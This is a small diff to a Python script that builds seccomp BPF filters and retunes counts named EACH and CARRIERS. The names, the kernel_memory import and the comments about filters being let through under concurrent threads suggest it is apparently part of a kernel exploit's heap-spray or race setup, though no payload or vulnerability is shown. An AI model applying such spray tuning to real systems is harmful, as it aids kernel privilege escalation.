@@ -12,8 +12,8 @@ from kernel_memory import *
 SECCOMP_SET_MODE_FILTER, RETURN, LOAD, ALLOW = 1, 0x06, 0x20, 0x7FFF0000
 # Short ones, which are installed fast: they are counted, and not measured.
 LENGTH = 16
-EACH = 7
-CARRIERS = 300
+EACH = 14
+CARRIERS = 150
 # Without a certain count as many are let through, and some more where several threads ask at once.
 MANY = 1024 + 128
 code = struct.pack("HBBI", LOAD, 0, 0, 0) * (LENGTH - 1) + struct.pack("HBBI", RETURN, 0, 0, ALLOW)
